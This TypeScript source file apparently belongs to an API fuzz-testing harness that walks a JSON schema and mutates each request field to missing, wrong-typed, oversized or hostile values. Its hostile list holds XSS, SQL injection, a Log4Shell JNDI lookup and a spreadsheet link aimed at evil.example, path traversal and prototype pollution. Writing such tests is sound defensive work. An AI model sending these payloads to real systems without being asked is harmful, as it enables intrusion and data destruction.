import { type JsonSchema, readSchema } from './sample-body.ts';

/** One change of one field: where it is, and what is put there. */
export type Change = { what: string; body: unknown };

const hostileTexts = [
  '<script>alert(1)</script>',
  "'; DROP TABLE users; --",
  '$'.concat('{jndi:ldap://evil.example/a}'),
  '../../../../etc/passwd',
  'javascript:alert(1)',
  'a\u0000b',
  '\ud800',
  '\u202eevil',
  '__proto__',
  '=HYPERLINK("http://evil.example")',
];

const wrongTypes = [null, true, 12.5, -1, Number.MAX_SAFE_INTEGER, 1e308, 'text', '', [], [[]], {}, { $gt: '' }];

/** Every field of a body missing, of a wrong type, too long and hostile, one at a time. */
export const changesOf = (schema: JsonSchema, sample: unknown): Change[] => {
  const whole = [undefined, ...wrongTypes].map((value) => ({ what: `all of it ${show(value)}`, body: value }));
  return [...whole, ...fieldChanges(schema, sample, '', (value) => value)];
};

type Place = (value: unknown) => unknown;

const fieldChanges = (schema: JsonSchema, sample: unknown, at: string, place: Place): Change[] => {
  const choices = schema.anyOf?.map(readSchema) ?? [schema];
  const object = choices.find(({ properties }) => properties);
  const array = choices.find(({ items }) => items !== undefined);
  if (object?.properties && isObject(sample)) return objectChanges(object.properties, sample, at, place);
  if (array && Array.isArray(sample))
    return fieldChanges(readSchema(array.items), sample[0], `${at}[0]`, (value) => place([value]));
  return [];
};

const objectChanges = (
  properties: Record<string, unknown>,
  sample: Record<string, unknown>,
  at: string,
  place: Place,
): Change[] =>
  Object.entries(properties).flatMap(([name, schema]) => {
    const field = `${at}.${name}`;
    const { [name]: value, ...others } = sample;
    const placeField: Place = (changed) => place({ ...others, [name]: changed });
    return [
      { what: `${field} missing`, body: place(others) },
      ...[...wrongTypes, ...hostileTexts, ...longValues(value)].map((changed) => ({
        what: `${field} ${show(changed)}`,
        body: placeField(changed),
      })),
      ...fieldChanges(readSchema(schema), value, field, placeField),
    ];
  });

const longValues = (value: unknown): unknown[] => {
  const text = 'x'.repeat(400_000);
  return Array.isArray(value) ? [text, Array.from({ length: 20_000 }, () => value[0])] : [text];
};

const isObject = (value: unknown): value is Record<string, unknown> =>
  typeof value === 'object' && value !== null && !Array.isArray(value);

const show = (value: unknown): string => {
  const text = JSON.stringify(value) ?? 'left out';
  return text.length > 60 ? `${text.slice(0, 40)}… (${text.length} characters)` : text;
};
